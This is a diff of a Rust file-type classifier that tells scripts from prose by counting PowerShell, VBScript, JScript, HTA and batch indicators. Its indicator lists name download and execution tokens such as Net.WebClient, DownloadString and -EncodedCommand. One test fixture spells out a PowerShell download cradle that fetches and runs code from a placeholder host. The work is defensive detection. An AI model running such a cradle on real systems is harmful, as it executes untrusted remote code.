@@ -2,64 +2,268 @@
 //! the file to. Scripts are told from prose by indicators that prose does
 //! not use; one indicator is never enough, so a mail that mentions
 //! `Invoke-WebRequest` stays text.
+//!
+//! All indicators are found in one case-insensitive Aho-Corasick pass over
+//! the first 8 KiB; nothing is copied for ASCII and UTF-8 text.
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 
 use super::{FileType, known};
 
 /// How much of a file is read to classify text.
-const WINDOW: usize = 16 << 10;
+const WINDOW: usize = 8 << 10;
 
-/// Classifies bytes that infer did not recognise (or called text).
-pub(crate) fn classify_text(data: &[u8]) -> FileType {
-    let head = &data[..data.len().min(WINDOW)];
-    let (text, utf16) = match decode(head) {
-        Some(t) => t,
-        None => return known::DATA,
-    };
-    let lower = text.to_ascii_lowercase();
-    if let Some(t) = script_type(&lower) {
-        return t;
+/// Which family an indicator speaks for.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Family {
+    PowerShell,
+    Wsh,
+    Vbs,
+    Js,
+    Hta,
+    Html,
+}
+
+const INDICATORS: &[(&str, Family)] = &[
+    ("invoke-expression", Family::PowerShell),
+    ("iex(", Family::PowerShell),
+    ("iex (", Family::PowerShell),
+    ("new-object ", Family::PowerShell),
+    ("net.webclient", Family::PowerShell),
+    ("downloadstring(", Family::PowerShell),
+    ("downloadfile(", Family::PowerShell),
+    ("invoke-webrequest", Family::PowerShell),
+    ("start-process", Family::PowerShell),
+    ("-encodedcommand", Family::PowerShell),
+    ("$env:", Family::PowerShell),
+    ("[system.", Family::PowerShell),
+    ("[convert]::", Family::PowerShell),
+    ("frombase64string", Family::PowerShell),
+    ("set-executionpolicy", Family::PowerShell),
+    ("add-type", Family::PowerShell),
+    ("write-host", Family::PowerShell),
+    ("get-childitem", Family::PowerShell),
+    ("foreach-object", Family::PowerShell),
+    ("where-object", Family::PowerShell),
+    ("$psscriptroot", Family::PowerShell),
+    ("-windowstyle hidden", Family::PowerShell),
+    ("param(", Family::PowerShell),
+    ("[cmdletbinding", Family::PowerShell),
+    ("$null", Family::PowerShell),
+    ("-bypass", Family::PowerShell),
+    ("wscript.", Family::Wsh),
+    ("createobject(", Family::Wsh),
+    ("activexobject", Family::Wsh),
+    ("shell.application", Family::Wsh),
+    ("scripting.filesystemobject", Family::Wsh),
+    ("on error resume next", Family::Vbs),
+    ("\ndim ", Family::Vbs),
+    ("\nset ", Family::Vbs),
+    ("end sub", Family::Vbs),
+    ("end function", Family::Vbs),
+    ("end if", Family::Vbs),
+    ("msgbox", Family::Vbs),
+    ("& vbcrlf", Family::Vbs),
+    ("executeglobal", Family::Vbs),
+    ("execute(", Family::Vbs),
+    ("chr(", Family::Vbs),
+    ("\nsub ", Family::Vbs),
+    ("var ", Family::Js),
+    ("function(", Family::Js),
+    ("function ", Family::Js),
+    ("eval(", Family::Js),
+    ("};", Family::Js),
+    ("\");", Family::Js),
+    ("';", Family::Js),
+    ("<hta:application", Family::Hta),
+    ("<body", Family::Html),
+    ("<head", Family::Html),
+];
+
+const BATCH_STARTS: &[&str] = &[
+    "set ",
+    "setlocal",
+    "goto ",
+    "call ",
+    "if exist",
+    "if not exist",
+    "start ",
+    "cmd /c",
+    "cmd.exe /c",
+    "rem ",
+    "del /",
+    "reg add",
+    "schtasks ",
+    "bitsadmin ",
+    "certutil ",
+    "powershell -",
+    "powershell.exe -",
+    "exit /b",
+    "pause",
+];
+
+/// The indicators, compiled once per detector.
+pub(crate) struct ScriptMatcher {
+    /// Building from our fixed patterns cannot fail in practice; if it did,
+    /// no text would be called a script by content (names still decide).
+    ac: Option<AhoCorasick>,
+}
+
+impl ScriptMatcher {
+    pub(crate) fn new() -> Self {
+        let ac = AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .build(INDICATORS.iter().map(|i| i.0))
+            .ok();
+        ScriptMatcher { ac }
     }
-    let trimmed = lower.trim_start_matches('\u{feff}').trim_start();
-    if trimmed.starts_with("<!doctype html")
-        || trimmed.starts_with("<html")
-        || (trimmed.starts_with('<') && (lower.contains("<body") || lower.contains("<head")))
-    {
-        return known::HTML;
+
+    /// Classifies bytes that infer did not recognise (or called text).
+    pub(crate) fn classify_text(&self, data: &[u8]) -> FileType {
+        let head = &data[..data.len().min(WINDOW)];
+        let (text, utf16): (std::borrow::Cow<'_, str>, bool) = match decode(head) {
+            Some(t) => t,
+            None => return known::DATA,
+        };
+        if let Some(t) = self.script_type(&text) {
+            return t;
+        }
+        let trimmed = text.trim_start_matches('\u{feff}').trim_start();
+        let starts = |p: &str| {
+            trimmed
+                .get(..p.len())
+                .is_some_and(|s| s.eq_ignore_ascii_case(p))
+        };
+        let html_tags = self.ac.as_ref().is_some_and(|ac| {
+            ac.find_iter(text.as_ref())
+                .any(|m| INDICATORS[m.pattern().as_usize()].1 == Family::Html)
+        });
+        if starts("<!doctype html") || starts("<html") || (trimmed.starts_with('<') && html_tags) {
+            return known::HTML;
+        }
+        if starts("<?xml") || starts("<svg") {
+            return known::XML;
+        }
+        if (trimmed.starts_with('{') || trimmed.starts_with('['))
+            && looks_like_json(trimmed, head.len() < data.len())
+        {
+            return known::JSON;
+        }
+        if utf16 {
+            known::UTF16_TEXT
+        } else {
+            known::TEXT
+        }
     }
-    if trimmed.starts_with("<?xml") || trimmed.starts_with("<svg") {
-        return known::XML;
-    }
-    if (trimmed.starts_with('{') || trimmed.starts_with('['))
-        && looks_like_json(trimmed, head.len() < data.len())
-    {
-        return known::JSON;
-    }
-    if utf16 {
-        known::UTF16_TEXT
-    } else {
-        known::TEXT
+
+    /// The script type of a text, if its content says so.
+    fn script_type(&self, text: &str) -> Option<FileType> {
+        let body = text.trim_start_matches('\u{feff}').trim_start();
+        if body.starts_with("#!") {
+            let line = body.lines().next().unwrap_or("");
+            return Some(if line.contains("python") {
+                known::PYTHON
+            } else if line.contains("sh") {
+                known::SHELL
+            } else {
+                known::SCRIPT
+            });
+        }
+        let first = body.lines().next().unwrap_or("").trim();
+        if ["@echo off", "@echo on", "echo off"].iter().any(|p| {
+            first
+                .get(..p.len())
+                .is_some_and(|s| s.eq_ignore_ascii_case(p))
+        }) {
+            return Some(known::BATCH);
+        }
+        // One pass: which distinct indicators occur.
+        let mut seen = [false; INDICATORS.len()];
+        if let Some(ac) = &self.ac {
+            for m in ac.find_overlapping_iter(text) {
+                seen[m.pattern().as_usize()] = true;
+            }
+        }
+        let count = |f: Family| {
+            INDICATORS
+                .iter()
+                .zip(&seen)
+                .filter(|(i, s)| **s && i.1 == f)
+                .count()
+        };
+        let has = |p: &str| INDICATORS.iter().zip(&seen).any(|(i, s)| *s && i.0 == p);
+        if count(Family::Hta) > 0 {
+            return Some(known::HTA);
+        }
+        let ps = count(Family::PowerShell);
+        let ps_syntax = text.contains('$') && (text.contains(" = ") || text.contains("| "));
+        if ps >= 3 || (ps >= 2 && ps_syntax) {
+            return Some(known::POWERSHELL);
+        }
+        let wsh = count(Family::Wsh);
+        let vbs = count(Family::Vbs);
+        let js = count(Family::Js);
+        if wsh >= 1 && has("activexobject") && js >= 2 {
+            return Some(known::JSCRIPT);
+        }
+        if (wsh >= 1 && vbs >= 2) || vbs >= 4 {
+            return Some(known::VBSCRIPT);
+        }
+        if wsh >= 1 && js >= 3 {
+            return Some(known::JSCRIPT);
+        }
+        let bat = body
+            .lines()
+            .take(200)
+            .map(|l| l.trim_start().trim_start_matches('@'))
+            .filter(|l| {
+                BATCH_STARTS
+                    .iter()
+                    .any(|k| l.get(..k.len()).is_some_and(|s| s.eq_ignore_ascii_case(k)))
+                    || l.contains("%~dp0")
+                    || l.starts_with(':')
+            })
+            .count();
+        (bat >= 3).then_some(known::BATCH)
     }
 }
 
-/// Text as a string when the bytes are text: UTF-8 (a sequence cut at the
-/// window's edge is fine) or UTF-16 with a BOM or with the zero bytes of
-/// ASCII in UTF-16. Control characters other than white space are allowed
-/// only sparsely.
-fn decode(head: &[u8]) -> Option<(String, bool)> {
+/// Text when the bytes are text: UTF-8 (a sequence cut at the window's edge
+/// is fine; borrowed, not copied) or UTF-16 with a BOM or with the zero
+/// bytes of ASCII in UTF-16. Control characters other than white space are
+/// allowed only sparsely, NUL never.
+fn decode(head: &[u8]) -> Option<(std::borrow::Cow<'_, str>, bool)> {
     if head.len() >= 2 && (head[..2] == [0xff, 0xfe] || head[..2] == [0xfe, 0xff]) {
-        return utf16(&head[2..], head[0] == 0xfe).map(|s| (s, true));
+        return utf16(&head[2..], head[0] == 0xfe).map(|s| (s.into(), true));
     }
-    if head.len() >= 8 && head.iter().skip(1).step_by(2).take(32).all(|&b| b == 0) && head[0] != 0 {
-        return utf16(head, false).map(|s| (s, true));
+    if head.len() >= 8 && head[0] != 0 && head.iter().skip(1).step_by(2).take(32).all(|&b| b == 0) {
+        return utf16(head, false).map(|s| (s.into(), true));
     }
-    let s = match std::str::from_utf8(head) {
-        Ok(s) => s.to_owned(),
-        Err(e) if e.error_len().is_none() => {
-            String::from_utf8_lossy(&head[..e.valid_up_to()]).into_owned()
+    if !bytes_look_like_text(head) {
+        return None;
+    }
+    match std::str::from_utf8(head) {
+        Ok(s) => Some((s.into(), false)),
+        Err(e) if e.error_len().is_none() => std::str::from_utf8(&head[..e.valid_up_to()])
+            .ok()
+            .map(|s| (s.into(), false)),
+        Err(_) => None,
+    }
+}
+
+/// No NUL, and at most 1% control bytes other than white space and escape.
+fn bytes_look_like_text(b: &[u8]) -> bool {
+    let mut control = 0usize;
+    for &c in b {
+        if c == 0 {
+            return false;
         }
-        Err(_) => return None,
-    };
-    mostly_printable(&s).then_some((s, false))
+        control += usize::from(
+            (c < 0x20 && !matches!(c, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b)) || c == 0x7f,
+        );
+    }
+    control * 100 <= b.len()
 }
 
 fn utf16(b: &[u8], big_endian: bool) -> Option<String> {
@@ -73,200 +277,45 @@ fn utf16(b: &[u8], big_endian: bool) -> Option<String> {
     let s: String = char::decode_utf16(units)
         .map(|r| r.unwrap_or('\u{fffd}'))
         .collect();
+    let total = s.chars().count();
     let bad = s.chars().filter(|&c| c == '\u{fffd}').count();
-    (bad * 100 <= s.chars().count() && mostly_printable(&s)).then_some(s)
-}
-
-fn mostly_printable(s: &str) -> bool {
-    let mut total = 0usize;
-    let mut control = 0usize;
-    for c in s.chars() {
-        total += 1;
-        if c == '\0' {
-            return false;
-        }
-        if c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\x0c' | '\x1b') {
-            control += 1;
-        }
-    }
-    control * 100 <= total
+    let control = s
+        .chars()
+        .filter(|&c| c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\x0c' | '\x1b'))
+        .count();
+    let nul = s.contains('\0');
+    (!nul && bad * 100 <= total && control * 100 <= total).then_some(s)
 }
 
 fn looks_like_json(s: &str, cut: bool) -> bool {
     let t = s.trim_end();
     (cut || t.ends_with('}') || t.ends_with(']'))
-        && (s.contains("\":") || s.contains("\" :") || s.starts_with("["))
-}
-
-fn count(lower: &str, needles: &[&str]) -> usize {
-    needles.iter().filter(|n| lower.contains(*n)).count()
-}
-
-/// The script type of a text, if its content says so.
-fn script_type(lower: &str) -> Option<FileType> {
-    let body = lower.trim_start_matches('\u{feff}').trim_start();
-    if body.starts_with("#!") {
-        let line = body.lines().next().unwrap_or("");
-        return Some(if line.contains("python") {
-            known::PYTHON
-        } else if line.contains("sh") {
-            known::SHELL
-        } else {
-            known::SCRIPT
-        });
-    }
-    if lower.contains("<hta:application") {
-        return Some(known::HTA);
-    }
-    let first = body.lines().next().unwrap_or("").trim();
-    if first.starts_with("@echo off") || first.starts_with("@echo on") || first == "echo off" {
-        return Some(known::BATCH);
-    }
-    let ps = count(
-        lower,
-        &[
-            "invoke-expression",
-            "iex(",
-            "iex (",
-            "new-object ",
-            "net.webclient",
-            "downloadstring(",
-            "downloadfile(",
-            "invoke-webrequest",
-            "start-process",
-            "-encodedcommand",
-            "$env:",
-            "[system.",
-            "[convert]::",
-            "frombase64string",
-            "set-executionpolicy",
-            "add-type",
-            "write-host",
-            "get-childitem",
-            "foreach-object",
-            "where-object",
-            "$psscriptroot",
-            "-windowstyle hidden",
-            "param(",
-            "[cmdletbinding",
-            "$null",
-            "-bypass",
-        ],
-    );
-    let ps_syntax = lower.contains("$") && (lower.contains(" = ") || lower.contains("| "));
-    if ps >= 3 || (ps >= 2 && ps_syntax) {
-        return Some(known::POWERSHELL);
-    }
-    let wsh = count(
-        lower,
-        &[
-            "wscript.",
-            "createobject(",
-            "activexobject",
-            "wscript.shell",
-            "shell.application",
-            "scripting.filesystemobject",
-        ],
-    );
-    let vbs = count(
-        lower,
-        &[
-            "on error resume next",
-            "\ndim ",
-            "\nset ",
-            "end sub",
-            "end function",
-            "end if",
-            "msgbox",
-            "& vbcrlf",
-            "executeglobal",
-            "execute(",
-            "chr(",
-            "\nsub ",
-        ],
-    );
-    let js = count(
-        lower,
-        &[
-            "var ",
-            "function(",
-            "function ",
-            "new activexobject",
-            "eval(",
-            "};",
-            "\");",
-            "';",
-        ],
-    );
-    if wsh >= 1 && lower.contains("activexobject") && js >= 2 {
-        return Some(known::JSCRIPT);
-    }
-    if (wsh >= 1 && vbs >= 2) || vbs >= 4 {
-        return Some(known::VBSCRIPT);
-    }
-    if wsh >= 1 && js >= 3 {
-        return Some(known::JSCRIPT);
-    }
-    let bat = body
-        .lines()
-        .take(200)
-        .map(|l| l.trim_start().trim_start_matches('@'))
-        .filter(|l| {
-            [
-                "set ",
-                "setlocal",
-                "goto ",
-                "call ",
-                "if exist",
-                "if not exist",
-                "start ",
-                "cmd /c",
-                "cmd.exe /c",
-                "rem ",
-                "del /",
-                "reg add",
-                "schtasks ",
-                "bitsadmin ",
-                "certutil ",
-                "powershell -",
-                "powershell.exe -",
-                "exit /b",
-                "pause",
-            ]
-            .iter()
-            .any(|k| l.starts_with(k))
-                || l.contains("%~dp0")
-                || l.starts_with(':')
-        })
-        .count();
-    if bat >= 3 {
-        return Some(known::BATCH);
-    }
-    None
+        && (s.contains("\":") || s.contains("\" :") || s.starts_with('['))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    fn classify(b: &[u8]) -> FileType {
+        ScriptMatcher::new().classify_text(b)
+    }
+
     #[test]
     fn prose_mentioning_powershell_stays_text() {
         let t = b"Hi Bob, please don't run Invoke-WebRequest on the server again. Thanks!";
-        assert_eq!(classify_text(t), known::TEXT);
+        assert_eq!(classify(t), known::TEXT);
     }
 
     #[test]
     fn download_cradle_is_powershell() {
         let t = b"$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))";
-        assert_eq!(classify_text(t), known::POWERSHELL);
+        assert_eq!(classify(t), known::POWERSHELL);
     }
 
     #[test]
     fn batch_by_first_line() {
-        assert_eq!(
-            classify_text(b"@echo off\r\nstart calc.exe\r\n"),
-            known::BATCH
-        );
+        assert_eq!(classify(b"@echo off\r\nstart calc.exe\r\n"), known::BATCH);
     }
 
     #[test]
@@ -275,11 +324,16 @@ mod tests {
             .encode_utf16()
             .flat_map(|u| u.to_le_bytes())
             .collect();
-        assert_eq!(classify_text(&s), known::UTF16_TEXT);
+        assert_eq!(classify(&s), known::UTF16_TEXT);
     }
 
     #[test]
     fn csv_is_text() {
-        assert_eq!(classify_text(b"name,amount\nbob,3\nalice,4\n"), known::TEXT);
+        assert_eq!(classify(b"name,amount\nbob,3\nalice,4\n"), known::TEXT);
+    }
+
+    #[test]
+    fn binary_is_data() {
+        assert_eq!(classify(&[0x00, 0x01, 0x02, 0xff]), known::DATA);
     }
 }
